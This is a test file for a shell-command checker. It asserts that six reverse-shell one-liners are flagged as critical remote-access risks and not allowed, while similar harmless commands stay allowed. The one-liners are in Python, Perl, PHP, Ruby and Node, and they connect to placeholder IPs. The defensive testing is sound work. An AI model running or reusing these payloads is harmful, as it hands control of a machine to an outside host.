import { describe, expect, it } from 'vitest';
import { check } from '../support/runtime.js';

// A reverse shell written in an interpreter's own language (the code connects and hands the connection a
// shell) was allowed: the shell it starts does nothing by itself. Now it is handing the machine over.

describe('reverse shells in interpreter code', () => {
  it.each([
    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
    `python -c 'import socket,os,pty;s=socket.create_connection(("198.51.100.2",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("bash")'`,
    `perl -e 'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
    `php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    `ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    `node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'`,
  ])('%s hands the machine over', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
    expect(r.assessment.risk).toBe('critical');
    expect(r.assessment.effects.some((e) => e.category === 'remote-access')).toBe(true);
  });

  it.each([
    `python3 -c 'import pty; pty.spawn("/bin/bash")'`,
    `python3 -c 'import socket; s=socket.create_connection(("db",5432)); print("ok")'`,
    `python3 -c 'import subprocess; subprocess.run(["/bin/sh","-c","make"])'`,
    `node -e 'require("net").connect(6379,"localhost").on("connect",()=>process.exit(0))'`,
    `perl -e 'open(my $out, ">&", STDOUT); print $out "hi\\n"'`,
  ])('%s stays allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
  });
});
